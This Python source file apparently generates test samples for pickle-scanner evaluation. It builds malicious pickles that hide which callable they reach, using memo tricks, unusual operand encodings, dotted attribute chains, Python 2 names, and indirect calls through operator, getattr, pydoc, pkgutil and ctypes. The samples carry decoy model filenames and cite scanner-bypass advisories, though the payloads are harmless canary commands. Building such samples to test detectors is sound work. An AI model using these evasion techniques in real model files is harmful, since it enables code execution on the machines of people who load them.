"""Malicious pickles that hide *which* callable is reached.

Covers memoised names, unusual operand encodings, dotted attribute chains, Python 2 names, and
callables obtained indirectly (partial, operator helpers, getattr chains, import helpers, ctypes).
"""

from __future__ import annotations

import pickle

from ._payload import OS_SYSTEM, program
from ._pickle_asm import Asm, Call, Global
from ._registry import Canary, sample

# -- names from the memo ---------------------------------------------------------------------------


@sample(
    "memo_binput_binget_names",
    technique="memo:BINPUT-BINGET",
    container="pickle",
    filename="pytorch_weights.pkl",
    description="Module and name are BINPUT into the memo, decoy torch/FloatStorage strings pushed last, "
    "and BINGET fetches the real names right before STACK_GLOBAL.",
)
def _memo_binput(c: Canary) -> bytes:
    a = Asm(4)
    for i, s in enumerate(("os", "system", "torch", "FloatStorage"), 1):
        a.str_(s).binput(i).pop()
    a.str_("torch").str_("FloatStorage").pop().pop()
    return a.binget(1).binget(2).stack_global().str_(c.sh).tuple_n(1).reduce().program()


@sample(
    "memo_memoize_decoy",
    technique="memo:MEMOIZE",
    container="pickle",
    filename="lora_adapter.pkl",
    description="MEMOIZE stores builtins/exec, then allow-listed collections/OrderedDict strings are "
    "pushed and popped; BINGET 0/1 feed STACK_GLOBAL.",
)
def _memo_memoize(c: Canary) -> bytes:
    a = Asm(4).str_("builtins").memoize().pop().str_("exec").memoize().pop()
    a.str_("collections").memoize().str_("OrderedDict").memoize().pop().pop()
    return a.binget(0).binget(1).stack_global().str_(c.py).tuple_n(1).reduce().program(frames=True)


@sample(
    "memo_text_put_get",
    technique="memo:PUT-GET",
    container="pickle",
    filename="tfidf.pkl",
    description="Protocol-0 style UNICODE operands stored with text PUT and fetched with text GET "
    "(the 2023 ImaginaryCTF picklescan memo bypass shape) for subprocess.getoutput.",
)
def _memo_text(c: Canary) -> bytes:
    a = Asm(0).str_("subprocess", "text").put(7).pop().str_("getoutput", "text").put(8).pop()
    a.str_("torch", "text").put(0).pop().str_("LongStorage", "text").put(1).pop()
    return a.get(7).get(8).stack_global().mark().str_(c.sh, "text").tuple_().reduce().program()


@sample(
    "memo_long_binput",
    technique="memo:LONG_BINPUT",
    container="pickle",
    filename="label_encoder.pkl",
    description="Names stored at memo slots 300/301 with LONG_BINPUT and fetched with LONG_BINGET.",
)
def _memo_long(c: Canary) -> bytes:
    a = Asm(3).str_("os").binput(300).pop().str_("system").binput(301).pop()
    return a.binget(300).binget(301).stack_global().str_(c.sh).tuple_n(1).reduce().program()


# -- operand encodings -----------------------------------------------------------------------------


@sample(
    "stack_global_string_operands",
    technique="operand:STRING",
    container="pickle",
    filename="model_strings.pkl",
    advisory="GHSA-9gvj-pp9x-gcfr",
    description="STACK_GLOBAL fed by protocol-0 quoted STRING operands, no PROTO header; picklescan "
    "< 0.0.29 only looked at *UNICODE operands for STACK_GLOBAL.",
)
def _string_ops(c: Canary) -> bytes:
    a = Asm(0).str_("os", "string").str_("system", "string").stack_global()
    return a.str_(c.sh, "string").tuple_n(1).reduce().program()


@sample(
    "stack_global_binunicode8",
    technique="operand:BINUNICODE8",
    container="pickle",
    filename="model_bu8.pkl",
    description="Module and name pushed with BINUNICODE8 (8-byte length) instead of SHORT_BINUNICODE.",
)
def _bu8(c: Canary) -> bytes:
    a = Asm(4).str_("subprocess", "bin8").str_("check_output", "bin8").stack_global()
    return a.push((c.argv,)).reduce().program()


@sample(
    "stack_global_binstring",
    technique="operand:BINSTRING",
    container="pickle",
    filename="model_bs.pkl",
    description="Module and name pushed with SHORT_BINSTRING/BINSTRING (decoded to str by the unpickler).",
)
def _binstring(c: Canary) -> bytes:
    a = Asm(2).str_("builtins", "short_binstring").str_("exec", "binstring").stack_global()
    return a.str_(c.py, "binstring").tuple_n(1).reduce().program()


@sample(
    "binbytes_decoded_names",
    technique="operand:BINBYTES-decoded",
    container="pickle",
    filename="model_bytes.pkl",
    description="Names start as SHORT_BINBYTES and are turned into str by builtins.str(b, 'ascii') and "
    "_codecs.decode; only a scanner that evaluates those calls sees subprocess.getoutput.",
)
def _binbytes(c: Canary) -> bytes:
    a = Asm(4).push(Call(Global("builtins", "str"), (b"subprocess", "ascii")))
    a.push(Call(Global("_codecs", "decode"), (b"getoutput", "ascii"))).stack_global()
    return a.str_(c.sh).tuple_n(1).reduce().program()


@sample(
    "unicode_escaped_names",
    technique="operand:UNICODE-escapes",
    container="pickle",
    filename="model_esc.pkl",
    description="Protocol-0 UNICODE operands spelled with raw-unicode-escapes ('o\\u0073', "
    "'sy\\u0073tem'): the bytes never contain 'os' or 'system'.",
)
def _uescape(c: Canary) -> bytes:
    a = Asm(0).op(pickle.UNICODE + b"\\u006f\\u0073\n", pickle.UNICODE + b"sy\\u0073tem\n").stack_global()
    return a.mark().str_(c.sh, "text").tuple_().reduce().program()


# -- dotted names and Python 2 names ---------------------------------------------------------------


@sample(
    "dotted_posixpath_os_system",
    technique="dotted:attribute-chain",
    container="pickle",
    filename="model_dotted.pkl",
    description="Protocol 4 find_class('posixpath', 'os.system') walks posixpath.os.system.",
)
def _dotted1(c: Canary) -> bytes:
    return program(4, Call(Global("posixpath", "os.system"), (c.sh,)))


@sample(
    "dotted_os_path_os_system",
    technique="dotted:attribute-chain",
    container="pickle",
    filename="model_dotted2.pkl",
    description="Text GLOBAL 'os' 'path.os.system' under a protocol-4 header: the dotted walk only happens "
    "because PROTO 4 was seen.",
)
def _dotted2(c: Canary) -> bytes:
    return Asm(4).global_("os", "path.os.system").str_(c.sh).tuple_n(1).reduce().program()


@sample(
    "dotted_builtin_self_exec",
    technique="dotted:attribute-chain",
    container="pickle",
    filename="model_dotted3.pkl",
    description="find_class('builtins', 'len.__self__.exec'): len.__self__ is the builtins module, so an "
    "innocuous-looking builtin reaches exec.",
)
def _dotted3(c: Canary) -> bytes:
    return program(4, Call(Global("builtins", "len.__self__.exec"), (c.py,)))


@sample(
    "proto2_builtin_eval",
    technique="python2-name:__builtin__",
    container="pickle",
    filename="weights_p2.pkl",
    description="Python 2 name __builtin__.eval; protocol < 3 loads map it to builtins.eval (fix_imports).",
)
def _py2_eval(c: Canary) -> bytes:
    return program(2, Call(Global("__builtin__", "eval"), (c.py,)))


@sample(
    "posix_system_proto2",
    technique="python2-name:posix",
    container="pickle",
    filename="model_posix.pkl",
    description="posix.system at protocol 2, the name CPython itself writes for os.system on POSIX.",
)
def _posix(c: Canary) -> bytes:
    return program(2, Call(Global("posix", "system"), (c.sh,)))


@sample(
    "nt_system_windows",
    technique="python2-name:nt",
    container="pickle",
    filename="model_nt.pkl",
    platform="win32",
    description="nt.system, os.system as pickled on Windows. Live only on Windows (no nt module elsewhere).",
)
def _nt(c: Canary) -> bytes:
    return program(2, Call(Global("nt", "system"), (f'type nul > "{c.file}"',)))


@sample(
    "commands_getoutput_py2",
    technique="python2-name:commands",
    container="pickle",
    filename="model_commands.pkl",
    description="Python 2 module commands.getoutput, mapped to subprocess.getoutput by fix_imports.",
)
def _commands(c: Canary) -> bytes:
    return program(2, Call(Global("commands", "getoutput"), (c.sh,)))


# -- callables passed as arguments -----------------------------------------------------------------


def _import(module: str) -> Call:
    return Call(Global("builtins", "__import__"), (module,))


def _getattr(obj: object, name: str) -> Call:
    return Call(Global("builtins", "getattr"), (obj, name))  # type: ignore[arg-type]


@sample(
    "functools_partial_system",
    technique="indirect:functools.partial",
    container="pickle",
    filename="callbacks.pkl",
    description="functools.partial(os.system, cmd) is built by REDUCE and called with ().",
)
def _partial(c: Canary) -> bytes:
    return program(3, Call(Call(Global("functools", "partial"), (OS_SYSTEM, c.sh)), ()))


@sample(
    "operator_methodcaller_import",
    technique="indirect:operator.methodcaller",
    container="pickle",
    filename="pipeline.pkl",
    description="operator.methodcaller('system', cmd) applied to builtins.__import__('os').",
)
def _methodcaller(c: Canary) -> bytes:
    mc = Call(Global("operator", "methodcaller"), ("system", c.sh))
    return program(4, Call(mc, (_import("os"),)))


@sample(
    "operator_attrgetter_import_module",
    technique="indirect:operator.attrgetter",
    container="pickle",
    filename="featurizer.pkl",
    description="operator.attrgetter('system')(importlib.import_module('os'))(cmd).",
)
def _attrgetter(c: Canary) -> bytes:
    ag = Call(Global("operator", "attrgetter"), ("system",))
    fn = Call(ag, (Call(Global("importlib", "import_module"), ("os",)),))
    return program(4, Call(fn, (c.sh,)))


@sample(
    "getattr_import_module",
    technique="indirect:getattr-import_module",
    container="pickle",
    filename="encoder.pkl",
    advisory="GHSA-q5qq-mvfm-j35x",
    description="getattr(importlib.import_module('os'), 'system')(cmd); fickling < 0.1.7 did not list "
    "importlib.",
)
def _getattr_im(c: Canary) -> bytes:
    fn = _getattr(Call(Global("importlib", "import_module"), ("os",)), "system")
    return program(4, Call(fn, (c.sh,)))


@sample(
    "getattr_dunder_import_memo",
    technique="indirect:builtins.__import__",
    container="pickle",
    filename="tokenizer_config.pkl",
    advisory="GHSA-h4rm-mm56-xf63",
    description="__import__('os') and getattr(.., 'system') results parked in the memo with PUT/POP and "
    "recalled with GET; fickling < 0.1.7 emitted no AST node for builtins imports.",
)
def _dunder_import(c: Canary) -> bytes:
    a = Asm(2).push(_import("os")).put(0).pop()
    a.global_("builtins", "getattr").get(0).str_("system").tuple_n(2).reduce().put(1).pop()
    return a.get(1).str_(c.sh).tuple_n(1).reduce().program()


@sample(
    "getattr_chain_path_os",
    technique="indirect:getattr-chain",
    container="pickle",
    filename="state.pkl",
    description="Nested builtins.getattr calls walk __import__('os').path.os.system.",
)
def _getattr_chain(c: Canary) -> bytes:
    fn = _getattr(_getattr(_getattr(_import("os"), "path"), "os"), "system")
    return program(3, Call(fn, (c.sh,)))


@sample(
    "pkgutil_resolve_name",
    technique="indirect:pkgutil.resolve_name",
    container="pickle",
    filename="resolver.pkl",
    advisory="GHSA-vvpj-8cmc-gx39",
    description="pkgutil.resolve_name('os:system') returns os.system from a data string "
    "(picklescan < 1.0.4).",
)
def _resolve_name(c: Canary) -> bytes:
    return program(4, Call(Call(Global("pkgutil", "resolve_name"), ("os:system",)), (c.sh,)))


@sample(
    "pydoc_locate_methodcaller",
    technique="indirect:pydoc.locate",
    container="pickle",
    filename="docs_model.pkl",
    advisory="GHSA-84r2-jw7c-4r5q",
    description="operator.methodcaller('system', cmd)(pydoc.locate('os')) (picklescan < 0.0.33).",
)
def _locate_mc(c: Canary) -> bytes:
    mc = Call(Global("operator", "methodcaller"), ("system", c.sh))
    return program(4, Call(mc, (Call(Global("pydoc", "locate"), ("os",)),)))


@sample(
    "pydoc_locate_direct",
    technique="indirect:pydoc.locate",
    container="pickle",
    filename="locate.pkl",
    advisory="GHSA-5hvc-6wx8-mvv4",
    description="pydoc.locate('os.system')(cmd); fickling < 0.1.7 did not list pydoc.",
)
def _locate(c: Canary) -> bytes:
    return program(5, Call(Call(Global("pydoc", "locate"), ("os.system",)), (c.sh,)), frames=True)


@sample(
    "operator_c_methodcaller",
    technique="indirect:_operator.methodcaller",
    container="pickle",
    filename="ops.pkl",
    advisory="GHSA-955r-x9j8-7rhh",
    description="_operator.methodcaller (the C module behind operator) in protocol-0 MARK/TUPLE form, "
    "applied to __import__('os') recalled from the memo.",
)
def _c_methodcaller(c: Canary) -> bytes:
    a = Asm(0).push(_import("os")).put(0).pop()
    a.global_("_operator", "methodcaller").mark().str_("system").str_(c.sh).tuple_().reduce()
    return a.mark().get(0).tuple_().reduce().program()


@sample(
    "operator_c_attrgetter",
    technique="indirect:_operator.attrgetter",
    container="pickle",
    filename="ops_attr.pkl",
    advisory="GHSA-46h3-79wf-xr6c",
    description="_operator.attrgetter('system')(__import__('os'))(cmd), the C-module spelling.",
)
def _c_attrgetter(c: Canary) -> bytes:
    fn = Call(Call(Global("_operator", "attrgetter"), ("system",)), (_import("os"),))
    return program(4, Call(fn, (c.sh,)))


@sample(
    "ctypes_cdll_libc_system",
    technique="indirect:ctypes",
    container="pickle",
    filename="native_ext.pkl",
    advisory="GHSA-4675-36f9-wf6r",
    description="ctypes.CDLL(None) opens the process's libc; getattr(.., 'system')(b'touch ...').",
)
def _ctypes(c: Canary) -> bytes:
    fn = _getattr(Call(Global("ctypes", "CDLL"), (None,)), "system")
    return program(4, Call(fn, (c.sh.encode(),)))
